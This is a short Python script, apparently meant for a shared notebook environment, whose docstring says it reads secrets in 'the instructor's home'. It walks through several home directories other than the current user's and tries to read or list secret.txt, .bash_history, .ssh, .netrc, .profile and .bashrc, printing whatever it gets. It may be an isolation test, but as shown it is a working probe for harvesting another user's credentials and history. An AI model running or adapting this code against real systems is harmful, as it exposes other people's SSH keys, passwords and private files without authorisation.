"""Reads secrets in the instructor's home, by every name that the home has."""
# %%
import os
import pwd
from pathlib import Path

homes = {Path("/srv/home"), Path("/root"), Path(pwd.getpwuid(os.getuid()).pw_dir), Path("/home")}
for home in homes - {Path.home()}:
    for name in ("secret.txt", ".bash_history", ".ssh", ".netrc", ".profile", ".bashrc", "."):
        try:
            found = home / name
            print("GOT", os.listdir(found) if found.is_dir() else found.read_text())
        except OSError as error:
            print(error)
